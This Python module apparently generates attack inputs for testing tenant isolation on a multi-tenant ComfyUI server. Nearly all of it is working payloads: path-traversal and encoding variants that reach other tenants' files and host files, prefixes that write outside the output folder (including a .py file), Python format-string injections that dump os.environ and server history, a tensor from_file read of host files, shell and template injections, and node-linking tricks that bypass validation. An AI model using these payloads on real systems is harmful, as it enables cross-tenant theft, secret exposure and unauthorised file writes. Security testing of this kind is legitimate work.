"""Ways to fill an input with a name that is another tenant's, or with code. Pure.

A variant's helpers are nodes that a link needs. `MARK` stands for a word of the prompt's own: a file whose name has it
tells which prompt wrote it.
"""

from __future__ import annotations

import unicodedata
from collections.abc import Iterator, Mapping
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import quote

MARK = "@MARK@"
KILOBYTES_40 = 40_000
_ZERO_WIDTH = "\u200b"


@dataclass(frozen=True, slots=True)
class Targets:
    """Names that the attacker knows: another tenant's files, a file of the host, and playlists of its own.

    Attributes:
        base: ComfyUI's base directory, "" if unknown.
        overwritten: the stem of an upload whose name a saver of folders makes: ``<stem>_00000.png``.
        replaced: prefixes with which a saver may count from 1 again, and so replace an output.
    """

    upload: str
    sub: str
    numeric: str
    accented: str
    audio: str
    model: str
    output: str
    output_sub: str
    temp: str
    audio_output: str
    folder: str
    marker: str
    base: str
    overwritten: str
    own_image: str
    replaced: tuple[str, ...] = ()
    playlists: tuple[str, ...] = ()


@dataclass(frozen=True, slots=True)
class Variant:
    """One way to fill one input.

    Attributes:
        helpers: nodes by id, which the value links to.
        objects: the type of what the class's dynamic members are linked to, "" for what they take.
        through: the class that hands the object on as if it were of another type.
        is_hidden: True if all but one harmless node hang on an input that no class declares. ComfyUI runs such nodes
            without having validated them.
    """

    label: str
    value: Any
    helpers: Mapping[str, Any] = field(default_factory=dict)
    objects: str = ""
    through: str = "ComfySwitchNode"
    is_hidden: bool = False


def node(class_type: str, **inputs: Any) -> dict[str, Any]:
    """Return a node of a prompt."""
    return {"class_type": class_type, "inputs": inputs}


def plain(targets: Targets) -> dict[str, str]:
    """Return the names as they are, and the host's file by its path."""
    up = "../" * 12
    return {
        "upload": targets.upload,
        "upload [input]": f"{targets.upload} [input]",
        "sub": targets.sub,
        "numeric": targets.numeric,
        "audio": targets.audio,
        "model": targets.model,
        "output": f"{targets.output} [output]",
        "output sub": f"{targets.output_sub} [output]",
        "temp": f"{targets.temp} [temp]",
        "audio output": f"{targets.audio_output} [output]",
        "bare output": targets.output,
        "marker": targets.marker,
        "marker relative": f"{up}{targets.marker.lstrip('/')}",
        "marker picture": f"{up}{targets.marker.lstrip('/').rsplit('.', 1)[0]}.png",
        "marker [output]": f"{up}{targets.marker.lstrip('/')} [output]",
        "output relative": f"../output/{targets.output}",
    }


def spelled(targets: Targets) -> dict[str, str]:
    """Return other spellings of names: what ComfyUI, the file system or FFmpeg may take for the same."""
    up, out, sub, temp = targets.upload, targets.output, targets.sub, targets.temp
    folder, file = sub.split("/", 1)
    stem, suffix = up.rsplit(".", 1)
    dots = "./" * (KILOBYTES_40 // 2)
    found = {
        "40 KB of ./": f"{dots}{up}",
        "40 KB of ./ [output]": f"{dots}{out} [output]",
        "40 KB of ./ [temp]": f"{dots}{temp} [temp]",
        "40 KB of /": f".{'/' * KILOBYTES_40}{up}",
        "33 KB of a/../": f"{'a/../' * 6600}{out} [output]",
        "./": f"./{up}",
        "./ [output]": f"./{out} [output]",
        "././/": f".///.//{out} [output]",
        "..": f"{folder}/../{up}",
        ".. [output]": f"x/../{out} [output]",
        ".. through input": f"../input/{up}",
        ".. through output [temp]": f"../output/{out} [temp]",
        "//": f"{folder}//{file}",
        "/./": f"{folder}/./{file}",
        "\\": f"{folder}\\{file}",
        ".\\": f".\\{up}",
        "..\\": f"..\\output\\{out}",
        "absolute": f"{targets.base or '/'}/input/{up}",
        "absolute [output]": f"{targets.base or '/'}/output/{out} [output]",
        "case": up.upper(),
        "case [OUTPUT]": f"{out} [OUTPUT]",
        "case of the suffix": f"{stem}.{suffix.upper()}",
        "NFD": unicodedata.normalize("NFD", targets.accented),
        "NFC": unicodedata.normalize("NFC", targets.accented),
        "fullwidth": "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in up),
        "fullwidth solidus": sub.replace("/", "\uff0f"),
        "zero width": f"{stem}{_ZERO_WIDTH}.{suffix}",
        "zero width [output]": f"{out}{_ZERO_WIDTH} [output]",
        "percent": quote(sub, safe="").replace("-", "%2D"),
        "percent twice": quote(quote(sub, safe=""), safe=""),
        "percent dots": f"%2e%2e/output/{out}",
        "space": f" {up} ",
        "tab": f"{up}\t",
        "newline": f"{up}\n",
        "NUL": f"{up}\0.png",
        "trailing /": f"{up}/",
        "trailing /.": f"{up}/.",
        "no space [output]": f"{out}[output]",
        "two spaces [output]": f"{out}  [output]",
        "two annotations": f"{out} [output] [input]",
        "two annotations turned": f"{out} [input] [output]",
        "annotation first": f"[output] {out}",
        "file:": f"file:{targets.marker}",
        "file://": f"file://{targets.base}/input/{up}",
        "concat:": f"concat:{targets.base}/output/{out}",
        "subfile": f"subfile,,start,0,end,99,,:{targets.marker}",
    }
    return {**found, **patterns(targets)}


def patterns(targets: Targets) -> dict[str, str]:
    """Return patterns: of the shell, of FFmpeg's image2, and of ComfyUI's prefixes."""
    out = targets.output
    return {
        "*": "*",
        "*.png": "*.png",
        "*.png [output]": "*.png [output]",
        "%*": "%*.png",
        "%* [output]": "%*.png [output]",
        "%*/%*": "%*/%*.png",
        "?": f"?{targets.upload[1:]}",
        "[0-9]": f"{out[:-10]}[0-9][0-9][0-9][0-9][0-9]_.png [output]" if len(out) > 10 else "[0-9]",
        "%05d": f"{out[:-10]}%05d_.png [output]",
        "%05d upload": "%05d.png",
        "{,}": f"{{{targets.upload},x}}",
    }


def folders(targets: Targets) -> dict[str, str]:
    """Return folders: the root, and what is beside and above it."""
    return {
        "folder .": ".",
        "folder empty": "",
        "folder": targets.folder,
        "folder /": f"{targets.folder}/",
        "folder ..": f"{targets.folder}/..",
        "folder above": "..",
        "folder output": "../output",
        "folder absolute": f"{targets.base}/input" if targets.base else "/",
        "folder of the marker": targets.marker.rsplit("/", 1)[0],
        "[input]": "[input]",
        "[output]": "[output]",
        "[temp]": "[temp]",
        " [output]": " [output]",
        ". [output]": ". [output]",
    }


def writes(targets: Targets) -> dict[str, str]:
    """Return prefixes and folders that lead out of output/."""
    return {
        "write ../../user": f"../../user/{MARK}",
        "write ../input": f"../input/{MARK}",
        "write ../../": f"../../{MARK}",
        "write over an upload": f"../input/{targets.overwritten}",
        "write over an upload from below": f"../../input/{targets.overwritten}",
        "write absolute": f"{targets.marker.rsplit('/', 1)[0]}/{MARK}",
        "write ..\\": f"..\\..\\{MARK}",
        "write loras": f"loras/{MARK}",
        "write a/../..": f"a/../../../user/{MARK}",
        "write behind a folder": f"/../../user/{MARK}",
    } | {f"replace {prefix}": prefix for prefix in targets.replaced}


def codes(targets: Targets) -> Iterator[Variant]:
    """Yield templates and expressions, with the objects that they reach into."""
    globals_ = "a.save_to.__globals__[os].sys.modules"
    history = "instance.prompt_queue.history"
    # The first so many characters: an answer that shows the history, in the history, would double with each prompt.
    start = "!r:.100000"
    formats = {
        "history": f"{{{globals_}[server].PromptServer.{history}{start}}}",
        "history of the simulator": f"{{{globals_}[gateway.simulator.server].Simulator.instance.queue.history{start}}}",
        "environment": "{a.save_to.__globals__[os].environ}",
        "class": f"{{a.__class__.__init__.__globals__{start}}}",
        "index": "{a.__dict__[frames]}",
    }
    nested = f"{{b:{{{globals_}[gateway.simulator.server].Simulator.instance.queue.history!r:.5000}}}}"
    formats |= {"nested": nested, "nested in text": "a {b:>{a.save_to.__globals__}}"}
    for label, text in formats.items():
        yield Variant(f"format {label}", text, objects="VIDEO")
        yield Variant(f"format {label}, combo", text, objects="VIDEO", through="CustomCombo")
    path = targets.marker
    # The storage of a tensor, once from the batch, once from its first image.
    for label, start in (("batch", "a"), ("item", "a[0]"), ("values", "values[0]")):
        code = f"{start}.untyped_storage().from_file('{path}', False, 64).tolist()"
        for through in ("ComfySwitchNode", "CustomCombo", "CreateList"):
            yield Variant(f"expression reads, {label}, {through}", code, objects="IMAGE", through=through)
    yield Variant("expression writes", f"a.save_to('{path.rsplit('/', 1)[0]}/{MARK}.py')", objects="VIDEO")
    yield Variant("expression shows", "a", objects="VIDEO")
    for label, text in (
        ("jinja", "{{ config }}"),
        ("fstring", "{__import__('os').environ}"),
        ("shell", f"$(cat {path})"),
    ):
        yield Variant(f"template {label}", text)


def shapes(label: str, name: str) -> Iterator[Variant]:
    """Yield a name inside other values than a text."""
    widget = {"camera_info": None, "recording": "", "model_3d_info": []}
    yield Variant(f"__value__ {label}", {"__value__": name})
    yield Variant(f"__value__ twice {label}", {"__value__": {"__value__": name}})
    yield Variant(f"__value__ list {label}", {"__value__": [name]})
    yield Variant(f"list {label}", [name])
    yield Variant(f"list of three {label}", [name, name, name])
    yield Variant(f"list of lists {label}", {"__value__": [[name]]})
    yield Variant(f"3d object {label}", {**dict.fromkeys(("image", "mask", "normal"), name), **widget})
    yield Variant(f"3d recording {label}", {"image": name, "mask": name, "normal": name, **widget, "recording": name})
    yield Variant(f"ref {label}", {"filename": name.split(" [")[0], "subfolder": "", "type": label.split()[0]})
    yield Variant(f"object {label}", {"image": name, "path": name, "file": name, "name": name, "value": name})


def linked(label: str, text: str) -> Iterator[Variant]:
    """Yield a text through stock nodes that make, join, switch and list texts."""
    half = max(len(text) // 2, 1)
    source = {"v1": node("PrimitiveString", value=text)}
    joined = {"v2": node("StringConcatenate", string_a=text[:half], string_b=text[half:], delimiter="")}
    switch = {**source, "v3": _switch("v1")}
    listed = {**source, "v4": node("CreateList", **{"inputs.input0": ["v1", 0]})}
    replaced = node("RegexReplace", string=f"#{text}", regex_pattern="^#", replace="")
    formatted = node("StringFormat", f_string="{a}", **{"values.a": text})
    yield Variant(f"string {label}", ["v1", 0], source)
    yield Variant(f"concatenate {label}", ["v2", 0], joined)
    yield Variant(f"switch {label}", ["v3", 0], switch)
    yield Variant(f"concatenate switch {label}", ["v3", 0], {**joined, "v3": _switch("v2")})
    yield Variant(f"list {label}", ["v4", 0], listed)
    yield Variant(f"list switch {label}", ["v3", 0], {**listed, "v3": _switch("v4")})
    yield Variant(f"replace switch {label}", ["v3", 0], {"v2": replaced, "v3": _switch("v2")})
    yield Variant(f"format switch {label}", ["v3", 0], {"v2": formatted, "v3": _switch("v2")})
    yield Variant(f"last slot {label}", ["v3", -1], switch)
    yield Variant(f"slot as float {label}", ["v3", 0.0], switch)
    yield Variant(f"slot as boolean {label}", ["v3", False], switch)
    yield Variant(f"unwrapped link {label}", {"__value__": ["v3", 0]}, switch)
    yield Variant(f"link unwrapped twice {label}", {"__value__": {"__value__": ["v3", 0]}}, switch)
    literal = node("ComfySwitchNode", switch=True, on_true=text, on_false=text)
    yield Variant(f"literal in switch {label}", ["v3", 0], {"v3": literal})
    # CustomCombo takes all inputs, and its second output, a number by its type, is whatever `index` is.
    combo = {"v5": node("CustomCombo", choice=text, index=text)}
    yield Variant(f"combo {label}", ["v5", 0], combo)
    yield Variant(f"combo index {label}", ["v5", 1], combo)
    yield Variant(f"combo switch {label}", ["v3", 0], {**combo, "v3": _switch("v5")})
    # Behind `index`, which CustomCombo does not declare, ComfyUI validates nothing: a text stays one in an INT.
    number = node("PrimitiveInt", value=text)
    yield Variant(
        f"text as a number {label}", ["v7", 1], {"v6": number, "v7": node("CustomCombo", choice="x", index=["v6", 0])}
    )
    yield Variant(f"hidden string {label}", ["v1", 0], source, is_hidden=True)
    yield Variant(f"hidden {label}", text, is_hidden=True)
    yield Variant(f"hidden text as a number {label}", ["v6", 0], {"v6": number}, is_hidden=True)


def _switch(source: str) -> dict[str, Any]:
    return node("ComfySwitchNode", switch=True, on_true=[source, 0], on_false=[source, 0])


# The ways that every text goes, which the others only differ from in what makes the text.
_MAX = ("switch", "string", "hidden string", "text as a number")


def for_text(targets: Targets) -> list[Variant]:
    """Return all ways to fill an input that may take a text."""
    names = plain(targets)
    found = [Variant(label, value) for label, value in (names | spelled(targets) | folders(targets)).items()]
    found += [Variant(label, value) for label, value in writes(targets).items()]
    found += [Variant(f"playlist {name}", name) for name in targets.playlists]
    found.append(Variant("number", int(targets.numeric)))
    found += codes(targets)
    for label in ("upload", "output", "audio", "temp", "marker"):
        found += [*shapes(label, names[label]), *linked(label, names[label])]
    for label in ("sub", "model", "audio output", "numeric"):
        found += [variant for variant in linked(label, names[label]) if variant.label.startswith(_MAX)]
    through = folders(targets) | writes(targets) | {f"playlist {name}": name for name in targets.playlists}
    through["40 KB of ./"] = spelled(targets)["40 KB of ./"]
    for label, value in through.items():
        found += [variant for variant in linked(label, value) if variant.label.startswith(_MAX)]
    return found


def for_others(targets: Targets) -> list[Variant]:
    """Return some ways to fill an input that takes numbers or objects."""
    names = plain(targets)
    found = [Variant(label, names[label]) for label in ("upload", "output", "marker")]
    found += [Variant("number", int(targets.numeric)), Variant("__value__ output", {"__value__": names["output"]})]
    found += [v for v in shapes("output", names["output"]) if v.label.startswith(("3d object", "list of three"))]
    kept = ("string", "switch", "concatenate switch", "list switch", "unwrapped link", "text as a number", "hidden")
    texts = {label: names[label] for label in ("output", "marker")}
    texts["write behind a folder"] = writes(targets)["write behind a folder"]
    for label, text in texts.items():
        found += [v for v in linked(label, text) if v.label.removesuffix(f" {label}") in kept]
    return found


# Arguments that functions of stock classes take, declared or not, or that a class might open.
UNDECLARED = ("filename_prefix", "prompt", "extra_pnginfo", "image", "folder", "file", "audio", "text", "self", "cls")


def for_undeclared(targets: Targets) -> list[Variant]:
    """Return ways to fill an input that a class does not declare."""
    names = plain(targets) | writes(targets)
    found = [Variant(label, names[label]) for label in ("output", "write ../input")]
    for label in ("output", "write ../input"):
        found += [v for v in linked(label, names[label]) if v.label.startswith(("string", "switch", "unwrapped"))]
    return found
